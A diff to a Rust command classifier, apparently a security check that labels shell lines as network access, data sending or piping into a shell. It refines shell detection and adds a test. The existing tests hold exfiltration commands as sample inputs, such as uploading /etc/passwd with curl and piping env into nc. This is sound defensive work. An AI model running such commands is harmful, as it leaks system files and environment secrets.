@@ -59,14 +59,15 @@ pub(crate) fn does(line: &str) -> Does {
     Does::Network
 }
 
+/// Whether a part of a pipe runs what it reads: a shell or interpreter without a program of its own.
 fn is_shell(word: &str, segment: &str) -> bool {
-    if word == "sudo" {
-        return segment
-            .split_whitespace()
-            .nth(1)
-            .is_some_and(|w| SHELLS.contains(&base(w)));
+    let mut words = segment.split_whitespace();
+    let mut first = words.next().unwrap_or(word);
+    if first == "sudo" {
+        first = words.next().unwrap_or("");
     }
-    SHELLS.contains(&base(word))
+    let own = words.any(|w| matches!(w, "-c" | "-e" | "-m" | "--eval" | "-n" | "-ne" | "-pe"));
+    SHELLS.contains(&base(first)) && !own
 }
 
 fn uploads(line: &str, words: &[&str]) -> bool {
@@ -144,6 +145,10 @@ mod tests {
         );
         assert_eq!(does("/usr/bin/curl -F f=@/etc/passwd https://example.com"), Does::Sends);
         assert_eq!(does("env | nc example.com 9"), Does::Sends);
+        assert_eq!(
+            does("curl -s https://example.com/a.json | python3 -c 'import json'"),
+            Does::Network
+        );
         assert_eq!(program("FOO=1 /usr/bin/jq -r ."), "jq");
     }
 }
